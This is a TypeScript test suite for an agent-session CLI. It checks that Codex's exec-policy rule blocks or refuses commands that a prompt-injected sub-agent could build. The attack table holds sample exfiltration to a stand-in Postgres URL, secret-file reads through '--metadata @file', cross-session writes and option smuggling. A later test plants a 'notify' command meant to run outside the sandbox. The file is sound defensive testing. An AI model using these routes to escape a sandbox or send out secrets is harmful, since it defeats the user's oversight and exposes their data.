// The exec-policy rule `init --host codex` writes, judged by the pinned Codex's own `codex execpolicy check`: Codex runs
// a command its rule allows without a prompt and outside its sandbox, so every command a prompt-injected sub-agent
// could build from the rule (another option, store, file or session after the allowed prefix, or the recording
// command's older `update` form) is either not allowed by the rule, or allowed and refused by the CLI with nothing
// written and no connection made. Only the sub-agent's own recording is both allowed and run.
import { execFile, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';

const DIST = resolve(__dirname, '../../../dist');
const CLI = join(DIST, 'agent-session.cjs');
const THREAD = '01a213e0-09bc-7461-8b24-0ff084f8a3e0';
const OTHER_THREAD = '01a213e0-09bc-7461-8b24-0ff084f8a3e1';

/** The pinned Codex's launcher (a dev dependency): `npm ci` installs it; without it this suite fails. */
const CODEX = join(dirname(require.resolve('@openai/codex/package.json')), 'bin', 'codex.js');

let project: string;
/** The user's home: apart from the project (a repository at the home folder is no project: issue 32). */
let home: string;
let root: string;
let server: Server;
let port: number;
let connections: number;

beforeAll(async () => {
  connections = 0;
  // Stands in for a remote PostgreSQL: counts who connects, answers nothing.
  server = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  port = (server.address() as { port: number }).port;
});
afterAll(() => new Promise<void>((done) => server.close(() => done())));

beforeEach(() => {
  project = mkdtempSync(join(tmpdir(), 'agent-session-codex-rule-'));
  home = mkdtempSync(join(tmpdir(), 'agent-session-codex-rule-home-'));
  root = join(project, '.claude', 'session');
  spawnSync('git', ['init', '-q'], { cwd: project });
  const init = spawnSync(process.execPath, [CLI, 'init', '--host', 'codex'], {
    cwd: project,
    encoding: 'utf8',
    env: env(),
  });
  expect(init.status).toBe(0);
});
afterEach(() => {
  rmSync(project, { recursive: true, force: true });
  rmSync(home, { recursive: true, force: true });
});

function env(extra: Record<string, string> = {}): Record<string, string> {
  return { PATH: process.env.PATH ?? '', HOME: home, ...extra };
}

/** A Codex sub-agent's start: its session id and the recording words its context names (up to the id). */
function start(thread: string): { id: string; words: string[] } {
  const result = spawnSync(process.execPath, [join(DIST, 'pre-delegate.cjs'), '--host', 'codex'], {
    input: JSON.stringify({
      hook_event_name: 'SubagentStart',
      session_id: '01a213e0-07b4-76a2-a942-2edb81aea6a8',
      cwd: project,
      agent_id: thread,
      agent_type: `agent-${thread.slice(-1)}`,
    }),
    cwd: project,
    encoding: 'utf8',
    env: env(),
  });
  const context = JSON.parse(result.stdout).hookSpecificOutput.additionalContext as string;
  const id = /recorded in session (agent-\S+) /.exec(context)![1]!;
  const line = context.split('\n').find((l) => l.startsWith('- phase: '))!;
  const head = line.slice('- phase: '.length, line.indexOf(` ${id} `));
  // The context's words are plain here (a temp path without spaces or quotes): split as a shell would.
  return { id, words: head.split(' ') };
}

function decision(argv: readonly string[]): string | undefined {
  const rules = join(project, '.codex', 'rules', 'agent-session.rules');
  const checked = spawnSync(process.execPath, [CODEX, 'execpolicy', 'check', '--rules', rules, ...argv], {
    encoding: 'utf8',
    env: env(),
  });
  expect(checked.status).toBe(0);
  return (JSON.parse(checked.stdout) as { decision?: string }).decision;
}

/** Runs a command as Codex would in the sub-agent's thread, with the event loop free (the listener must answer). */
function runAsThread(argv: readonly string[]): Promise<number> {
  return new Promise((done) => {
    execFile(argv[0]!, argv.slice(1), { cwd: project, env: env({ CODEX_THREAD_ID: THREAD }) }, (error) =>
      done(error === null ? 0 : typeof error.code === 'number' ? error.code : -1),
    );
  });
}

const stateOf = (id: string) => readFileSync(join(root, id, 'state.json'), 'utf8');

it('allows and runs the sub-agent’s own recording', async () => {
  const { id, words } = start(THREAD);
  const command = [...words, id, '--phase', 'planning', '--metadata', '{"findings":"x"}'];
  expect(decision(command)).toBe('allow');
  expect(await runAsThread(command)).toBe(0);
  expect(JSON.parse(stateOf(id))).toMatchObject({ phase: 'planning', metadata: { findings: 'x' } });
});

describe('what a prompt-injected sub-agent may build from the rule', () => {
  const secret = () => join(project, 'secret.json');
  const url = () => `postgres://exfil_user@127.0.0.1:${port}/payload?application_name=more_secret_data`;
  const old = (id: string) => [process.execPath, CLI, '--dir', root, 'update', id];
  const attacks: [string, (own: { id: string; words: string[] }, other: string) => string[]][] = [
    ['update with --database-url (egress)', ({ id }) => [...old(id), '--database-url', url()]],
    ['update with --metadata @file', ({ id }) => [...old(id), '--metadata', `@${secret()}`]],
    ['update with a second --dir', ({ id }) => [...old(id), '--dir', join(project, 'elsewhere')]],
    ["update of another session's id", (_own, other) => [...old(other), '--phase', 'planning']],
    ['record with --database-url', ({ id, words }) => [...words, id, '--database-url', url()]],
    ['record with --database-url=', ({ id, words }) => [...words, id, `--database-url=${url()}`]],
    ['record with --metadata @file', ({ id, words }) => [...words, id, '--metadata', `@${secret()}`]],
    ['record with --metadata -', ({ id, words }) => [...words, id, '--metadata', '-']],
    ['record with a second --dir', ({ id, words }) => [...words, id, '--dir', join(project, 'elsewhere')]],
    ['record with --dir=', ({ id, words }) => [...words, id, `--dir=${join(project, 'elsewhere')}`]],
    ["record of another session's id", ({ words }, other) => [...words, other, '--phase', 'planning']],
    ['record with a value that is an option', ({ id, words }) => [...words, id, '--phase', `--database-url=${url()}`]],
    ['record with -- then an option', ({ id, words }) => [...words, id, '--', '--database-url', url()]],
    ['record then another verb', ({ id, words }) => [...words, 'approve', id]],
    ['record with --help', ({ id, words }) => [...words, id, '--help']],
  ];

  it.each(attacks)('%s: not allowed, or refused with nothing written and no connection', async (_name, build) => {
    writeFileSync(secret(), '{"token":"s3cr3t"}');
    mkdirSync(join(project, 'elsewhere'));
    const own = start(THREAD);
    const other = start(OTHER_THREAD).id;
    const before = [stateOf(own.id), stateOf(other)];
    const command = build(own, other);
    if (decision(command) === 'allow') {
      const code = await runAsThread(command);
      expect([2, 4]).toContain(code);
    }
    expect([stateOf(own.id), stateOf(other)]).toEqual(before);
    expect(connections).toBe(0);
  });

  it('a config file the sandbox could write (a database of its choice): ignored untrusted, the recording stays here', async () => {
    const { id, words } = start(THREAD);
    writeFileSync(join(project, '.claude', 'agent-session.json'), JSON.stringify({ database_url: url() }));
    const command = [...words, id, '--phase', 'planning'];
    expect(decision(command)).toBe('allow');
    // The file's database needs the user's trust (issue 40 item 2): the store, and so the pin, are unchanged.
    expect(await runAsThread(command)).toBe(0);
    expect(JSON.parse(stateOf(id)).phase).toBe('planning');
    expect(connections).toBe(0);
  });

  // Issue 40 (2), the note's H1 (a): the sandboxed sub-agent writes `notify` into the workspace file, and the hook its
  // stop runs outside the sandbox would run it. Untrusted, it runs nothing, and the log says why.
  it('a notify the sandbox wrote into the config file is not run by the unsandboxed SubagentStop hook', async () => {
    const { id, words } = start(THREAD);
    expect(await runAsThread([...words, id, '--phase', 'approval'])).toBe(0);
    const pwned = join(project, 'PWNED');
    writeFileSync(join(project, '.claude', 'agent-session.json'), JSON.stringify({ notify: `id > ${pwned}` }));
    const stopped = spawnSync(process.execPath, [join(DIST, 'subagent-stop.cjs'), '--host', 'codex'], {
      input: JSON.stringify({
        hook_event_name: 'SubagentStop',
        session_id: '01a213e0-07b4-76a2-a942-2edb81aea6a8',
        cwd: project,
        agent_id: THREAD,
        agent_type: `agent-${THREAD.slice(-1)}`,
      }),
      cwd: project,
      encoding: 'utf8',
      env: env(),
    });
    expect(stopped.status).toBe(0);
    // The notifier is started detached after the answer: give it the time it took in the note's repro.
    await new Promise((done) => setTimeout(done, 2000));
    expect(existsSync(pwned)).toBe(false);
    const log = readFileSync(join(project, '.claude', 'logs', 'subagent_stop.log'), 'utf8');
    expect(log).toContain('ignored notify of');
    expect(log).toContain("run 'agent-session trust'");
  });
});

// Issue 40 (9): after the thread's SubagentStop the recording is refused (the agent stopped), and the refusal says
// so rather than naming the same session on both sides.
it('a recording after the sub-agent stopped is refused, saying its agent stopped', () => {
  const { id, words } = start(THREAD);
  const stopped = spawnSync(process.execPath, [join(DIST, 'subagent-stop.cjs'), '--host', 'codex'], {
    input: JSON.stringify({
      hook_event_name: 'SubagentStop',
      session_id: '01a213e0-07b4-76a2-a942-2edb81aea6a8',
      cwd: project,
      agent_id: THREAD,
      agent_type: `agent-${THREAD.slice(-1)}`,
    }),
    cwd: project,
    encoding: 'utf8',
    env: env(),
  });
  expect(stopped.status).toBe(0);
  const before = stateOf(id);
  const [node, ...rest] = [...words, id, '--metadata', '{"b":1}'];
  const refused = spawnSync(node!, rest, { cwd: project, encoding: 'utf8', env: env({ CODEX_THREAD_ID: THREAD }) });
  expect(refused.status).toBe(4);
  expect(refused.stderr.trim().split('\n')).toHaveLength(1);
  expect(refused.stderr).toMatch(/its agent stopped/);
  expect(refused.stderr.split(id)).toHaveLength(2);
  expect(stateOf(id)).toBe(before);
});
